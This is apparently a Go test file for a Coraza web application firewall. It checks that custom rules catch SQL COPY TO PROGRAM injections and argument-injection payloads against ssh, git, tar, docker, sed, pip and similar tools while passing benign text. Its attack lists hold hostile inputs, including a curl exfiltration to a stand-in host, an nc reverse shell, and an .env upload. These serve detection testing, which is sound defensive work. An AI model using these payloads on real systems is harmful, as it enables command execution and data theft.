package waf

import (
	"math/rand/v2"
	"net/url"
	"regexp"
	"testing"

	"github.com/corazawaf/coraza/v3"
)

var copyProgramAttacks = []string{
	"1;COPY (SELECT 1) TO PROGRAM 'id'",
	"1; COPY users TO PROGRAM 'curl -d @- http://evil.example'",
	"1;COPY t FROM PROGRAM 'id'",
	"1;copy (select 1) to program $$id$$",
	"1;copy/**/t/**/from/**/program/**/'id'",
	"1;COPY t(a) FROM PROGRAM E'id'",
	// attack 10, B7: no spaces, U&'' and E'' strings, other queries
	"1;COPY(SELECT 1)TO PROGRAM'id'",
	"1;COPY t TO PROGRAM U&'\\0069d'",
	"1;copy(select 1)to program E'id'",
	"1;COPY t(a)FROM PROGRAM'id'",
	"1;COPY\"t\"TO PROGRAM'id'",
	"1;COPY (VALUES(1)) TO PROGRAM 'id'",
	"1;copy(with x as(select 1)select * from x)to program'id'",
	"1;COPY t TO PROGRAM$$id$$",
}

var argumentAttacks = []string{
	"ext::sh -c id", "-oProxyCommand=id", "-o ProxyCommand=id", "--upload-pack=id", "--upload-pack id",
	"--open-files-in-pager=id", "--use-compress-program=id", "--checkpoint-action=exec=id", "-exec id ;",
	"-c core.sshCommand=id", "--config=core.pager=id", "--to-command=id",
	// attack 10, B6: ssh's keyword and value with white space,
	// KnownHostsCommand; git's and tar's abbreviations; git's -c with
	// other command-running keys; tar's -I, -F, --info-script
	"-oProxyCommand id", "-oLocalCommand id", "-o ProxyCommand  id", "-oKnownHostsCommand=id",
	"--upload-pa=id", "--u=id", "--receive-pa=id", "--open-files=id", "--ex=id", "--exe id",
	"-c core.askPass=id", "-c credential.helper=!id", "-ccredential.https://example.com.helper=x",
	"-c alias.x=!id", "-c diff.external=id", "-c diff.x.textconv=id", "-c filter.x.clean=id", "-c filter.x.smudge=id",
	"-c merge.x.driver=id", "-c sequence.editor=id", "-c core.editor=id", "-c core.pager=id", "-c pager.log=id",
	"-cprotocol.ext.allow=always", "-c protocol.allow=always", "-c gpg.program=id", "--conf=core.sshCommand=id",
	"-c remote.origin.uploadpack=id", "-c include.path=x.cfg",
	"-Itouch x; cat", "-I id", "-I/srv/uploads/run", "-Icurl -o x http://e/x", "--use-compress-prog=id", "--use-c=id", "--use=id", "--to-com=id", "--checkpoint-act=exec=id",
	"--checkpoint-action exec=id", "--info-script=id", "--new-volume-script=id", "--rsh=id", "-F id", "-F/srv/uploads/run",
	// attack 11, BROKE 5: bundled short options, git clone's -u
	"-4oProxyCommand=id", "-vvvoProxyCommand=id", "-AoProxyCommand=nc -e sh e.x 4444", "-4o ProxyCommand=id", "-Cvo ProxyCommand=id",
	"-4oLocalCommand id", "-u id", "-uid;x", "-qu id", "-u/srv/uploads/run", "-vqu id", "-uid&x", "-xvI id", "-cvf x -I id", "-xvI/srv/uploads/run",
	"-czf out.tgz -Itouch x; cat",
	"-Ifoo x; id", "-Fsh x", "-Ipython3 -c x", "-F/srv/x.sh", "-I/srv/x",
	"--use-askpass=/srv/uploads/x.sh", "--use-a=/srv/x", "--template=/srv/uploads/tpl", "--templ=/srv/t",
	// a ninth fresh-eyes attack's (attack 13): rsync, Chromium, wget, hg,
	// man and pip
	"-esh -c id", "--rsync-path=id", "--gpu-launcher=id", "--renderer-cmd-prefix=id", "--utility-cmd-prefix=id",
	"--execute=post_file=/app/.env", "-ehttp_proxy=http://e.vil", "--config=ui.ssh=id", "-Pid", "--pager=id",
	"--index-url=http://e.vil/", "-i http://e.vil/", "-e id", "-e 'sh -c id'", "-P/srv/uploads/x.sh", "--rsync-path id", "--browser-subprocess-path=/srv/x",
	"-e use_askpass=/srv/x", "--execu=output_document=/app/x", "--config ui.editor=id", "--config=extensions.x=/srv/x.py", "--config=hooks.pre-pull=id",
	"--extra-index-url=https://e.vil/simple", "--find-links=http://e.vil/", "-ihttp://e.vil/", "--index=http://e.vil/",
	// a tenth fresh-eyes attack's (attack 14) still open then: sed,
	// docker, psql, npm and 7-Zip (210190)
	"1e id", "e id", "$e id", "1eid", "e\tsh -c id", "/x/e sh -c id", "1,3e curl http://e.vil", "s/x/id/e", "s/a/b/ge", "s/x/id/eg;p", "1{s/x/id/e}", "1s/x/id/e", "$!s/x/id/e",
	"-v /:/host", "-v /var/run/docker.sock:/var/run/docker.sock", "--volume=/:/host", "--mount type=bind,source=/,target=/h", "-v /etc:/x",
	"--volume /root/.ssh:/k", "--mount type=bind,src=/var/run/docker.sock,dst=/s", "-v/proc:/p",
	"\\! id", "-c \\! id", "-c '\\! id'", "\\o |id", "--command=\\! id", "x' \\g |sh", "x' \\! curl e.vil",
	"--script-shell=/srv/uploads/x.sh", "-so",
	// attack 18's: docker's cleaned paths, -v=, another option first;
	// sed's other addresses and delimiters; zip's -TT attached;
	// sqlite3's abbreviations and .import of a pipe; tar and gs
	"-v //:/host", "-v /./:/host", "-v /.:/host", "-v=/:/host", "--mount type=bind,source=//,target=/h", "-v /var//run/docker.sock:/s",
	"--rm -v /:/host", "-p 80:80 -v /:/host", "0~1e id", "1~2e id", "1,$e id", "1!e id", "s|x|id|e", "1{e id\n}",
	"-cmd .sys id", "-cmd .sh id", "-cmd .import '|id' t", "-bail -cmd .shell id", "--checkpoint=1 --checkpoint-action=exec=id",
	"-sOutputFile#%pipe%id",
	// a twelfth fresh-eyes attack's (attack 16) B15: zip, sqlite3 and
	// Ghostscript (210190)
	"-T -TT id", "-T --unzip-command id", "--unzip-command=id", "-TT id", "-T --unzip-c=id", "-cmd .shell id", "-cmd .system id", "--cmd=.shell id",
	"-sOutputFile=%pipe%id", "-sOutputFile=|id", "-o %pipe%id", "-dSAFER -sOutputFile=%pipe%id",
	// a fifteenth fresh-eyes attack's (attack 19): ripgrep's --pre, GNU
	// sort's --compress-program, aria2c's hooks, yt-dlp's
	// --exec-before-download, fd's -x, -X, --exec-batch
	"--pre=id", "--pre id", "--pre=sh", "--compress-program=id", "--compress-prog=id", "--compress=id",
	"--on-download-complete=id", "--on-download-start=id", "--on-download-error=id", "--on-download-stop=id",
	"--on-download-pause=id", "--on-bt-download-complete=id", "--exec-before-download=id", "--exec-batch=id",
	"--exec-batch id", "-x id", "-X id", "-x sh -c id", "-X python3 -c x", "-i -x id",
	// attack 21's: ripgrep's --hostname-bin, yt-dlp's --netrc-cmd and
	// an Exec postprocessor
	"--hostname-bin=id", "--hostname-bin id", "--netrc-cmd=id", "--netrc-cmd id", "--use-postprocessor=Exec:exec_cmd=id",
}

var execBenign = []string{
	// attack 17's false positives of 210190 before it read only the
	// host's system paths in mounts, left --privileged, npm's --prefix
	// and -so before more alone, and sed's e without an address only
	// before an option or the end
	"-v /data:/var/lib/postgresql/data -p 5432:5432", "-v /srv/app:/app", "--mount type=bind,source=/home2/ann/project,target=/work",
	"--privileged", "--prefix ./frontend run build", "--prefix /srv/www/app install", "-so -tzip archive.zip", "e id card renewal appointment",
	"-so what", "-v /etcetera:/x", "-v pgdata:/var/lib/postgresql/data", "--volume /cache:/cache",
	"--hostname", "--netrc", "--use-postprocessor=FFmpegMetadata", "--hostname-binary-search is slow",
	// 210183's any word then an operator, before attack 16's session:
	// changelog lines and list items
	"-Fixed crash when saving (issue 12)", "-Improved sync speed (2x)", "-Italy pizza & pasta", "-Fixed a crash; thanks to Ann",
	"-Install the app (free)", "-IMPORTANT: read this & that", "-Fun times; ahead", "-Focus mode | new",
	"copy to program", "Copy the report to program managers", "Please copy users to program staff list",
	"copy(values) to program guide", "copy the file to program's folder",
	"Copyright (c) 2026 to program authors", "COPY t TO STDOUT", "copy t to programs 'x'",
	"-1", "-o", "--help", "--verbose", "-v", "- a list item", "use find -exec to run a command on each file",
	"-executive summary", "--exec-path", "external::link", "the ssh option -oProxyCommand is documented", "--output=report.txt",
	// near attack 10, B6
	"-o ProxyCommand", "-oProxyJump=bastion", "-o StrictHostKeyChecking=no", "--user=ann", "--used", "--update",
	"--upload", "--execute-later", "--receiver=ops", "--open", "--info", "--newer=2026-01-01", "--to=ann@example.com",
	"-c user.name=Ann", "-c core.autocrlf=false", "-c alias.st=status", "-c credential.username=ann", "-c http.sslVerify=false",
	"-Infinity", "-Inf", "-INF", "-inline", "-i", "-f id", "-F", "-I", "-c", "--config", "-- e", "--e-mail",
	"--checkpoint=10", "-2", "-Oh no", "-c filter.lfs.required=true",
	"-Iid", "-Fid", "-IxZ4_k2-Qw9", "-Fq8vN-3_pLm", "-Inf to 7", "-Infinity and beyond",
	// near attack 11, BROKE 5
	"-4oProxyJump=bastion", "-Co Compression=yes", "-u", "-uid", "-used", "-updated the docs", "-qutouch", "-user: ann",
	"--u-turn", "-xvIid", "-xvInf to 7", "-HI there", "-WIFI is down", "-cvf x.tar dir", "-cvf x -I", "-Uid ann",
	// an eighth fresh-eyes attack's (attack 12) false positives
	"-Facebook privacy settings", "-Instagram -Facebook apps", "-Italy pizza", "-F/A-18 Hornet", "-Fixed crash when saving drafts\n-Improved sync speed",
	"-Idaho potatoes", "-Fun times ahead", "-Install the app first",
	"--use-ask", "--templates are here", "--temp", "--use-askpass",
	// near attack 13's: short -e, -i and -P before words, Maven's
	// profiles, options without a program or a URL
	"-e mail", "-eshop", "-e", "-i", "-i love it", "-india trip", "-P", "-Pprod", "-Pdev -DskipTests", "-Personal note", "-P id card",
	"-e sharp minor", "--index", "--index-url", "-i ./requirements.txt", "--pager", "--pagination=on", "--gpu", "-email=ann@example.com",
	"--config=ui.username=ann", "-e http_proxy", "-Eid Mubarak", "-Pidgin English", "-e catalogue", "--execute", "-expected delays",
	"-i https is required", "-f file.txt", "-Pi day", "--rsync", "--config=ui.verbose=true", "-e post", "-ideas", "-finance=1",
	// near attack 14's 210190
	"e mail", "1e6", "2e10 ids", "See e.g. id cards", "s/he said", "s/foo/bar/ge replaces with code in Perl", "s/x/y/e is the flag that evaluates", "-v", "-verbose", "-v 1.2.3", "--prefix", "--prefix-free", "-sort",
	"-solo", "--privileges are listed", "\\n", "C:\\Users\\ann", "it's \\! great", "-volume up", "--mount point", "Home: e sh", "eid mubarak", "ecat", "esh",
	// near attack 16's B15
	"-T", "-TT", "-TTL is 60", "-T -v", "--unzip", "-cmd .tables", "-cmd", "-cmdline", "-sOutputFile=out.pdf", "-o out.pdf", "-o | table", "-s pipe",
	// near attack 19's
	"--pretty", "--present", "--pre", "--prefer-ipv4", "pre=id", "--preview=on", "-x", "-x marks the spot", "-X", "-Xmx512m",
	"-x86 build", "--compress", "--compress the logs", "-fast", "--on-download", "--exec-path", "--exec-", "-xid card",
}

// execMatches runs v through rules 210180-210186 in Coraza with the
// prefilter on, as the waf loads them, and returns the ids that matched.
func execMatches(t *testing.T, waf coraza.WAF, v string) []int {
	t.Helper()
	tx := waf.NewTransaction()
	defer tx.Close()
	tx.AddGetRequestArgument("v", v)
	tx.ProcessRequestHeaders()
	if _, err := tx.ProcessRequestBody(); err != nil {
		t.Fatal(err)
	}
	var ids []int
	for _, r := range tx.MatchedRules() {
		ids = append(ids, r.Rule().ID())
	}
	return ids
}

// TestExecRules: rules 210180 to 210189, through Coraza with its @rx
// prefilter on (SecRxPreFilter On, as the waf sets it), match the fifth
// attack's F19 and F20 and none of the near-misses.
func TestExecRules(t *testing.T) {
	waf, err := coraza.NewWAF(coraza.NewWAFConfig().WithDirectives("SecRuleEngine On\nSecRxPreFilter On\n" + execRules))
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range copyProgramAttacks {
		if ids := execMatches(t, waf, s); len(ids) != 1 || ids[0] != 210180 {
			t.Errorf("%q: rules %v, want 210180", s, ids)
		}
	}
	for _, s := range argumentAttacks {
		if ids := execMatches(t, waf, s); len(ids) != 1 || ids[0] < 210181 || ids[0] > 210180+len(argumentShapes) {
			t.Errorf("%q: rules %v, want one of 210181-%d", s, ids, 210180+len(argumentShapes))
		}
	}
	for _, s := range execBenign {
		if ids := execMatches(t, waf, s); len(ids) != 0 {
			t.Errorf("the benign %q: rules %v", s, ids)
		}
	}
}

// TestExecRulesBeyondTheCRS: through a real Caddy, in the query and in
// JSON.
func TestExecRulesBeyondTheCRS(t *testing.T) {
	tableOnly(t)
	var misses, benign []probe
	for _, s := range append(append([]string{}, copyProgramAttacks...), argumentAttacks...) {
		misses = append(misses,
			probe{name: "query " + s, method: "GET", path: "/api/run?v=" + url.QueryEscape(s)},
			probe{name: "JSON " + s, method: "POST", path: "/api/run", contentType: "application/json", body: jsonString("v", s)})
	}
	for _, s := range execBenign {
		benign = append(benign, probe{name: "JSON " + s, method: "POST", path: "/api/notes", contentType: "application/json", body: jsonString("v", s)})
	}
	runBeyondTheCRS(t, nil, misses, benign)
}

// TestArgumentShapesLeaveTokensAlone: rules 210181-210186's expressions
// match none of randomSamples random tokens of nanoid's and base64url's
// alphabet (and ~ and .) that start with '-', one in 32 of such ids
// (attack 10, B6's -I and -F need a space or a / after them for this:
// "-Iid" is such a token's spelling too).
func TestArgumentShapesLeaveTokensAlone(t *testing.T) {
	tableOnly(t)
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-~."
	var shapes []*regexp.Regexp
	for _, s := range argumentShapes {
		shapes = append(shapes, regexp.MustCompile(`(?i)\A\s*`+otherOptions+s))
	}
	rng := rand.New(rand.NewPCG(10, 6))
	matched := 0
	for range randomSamples {
		b := make([]byte, 8+rng.IntN(57))
		for i := range b {
			b[i] = alphabet[rng.IntN(len(alphabet))]
		}
		b[0] = '-'
		for _, re := range shapes {
			if re.Match(b) {
				matched++
				t.Logf("%q matches %s", b, re)
			}
		}
	}
	if matched > 0 {
		t.Errorf("%d of %d random tokens starting with - match an argument-injection shape", matched, randomSamples)
	}
}
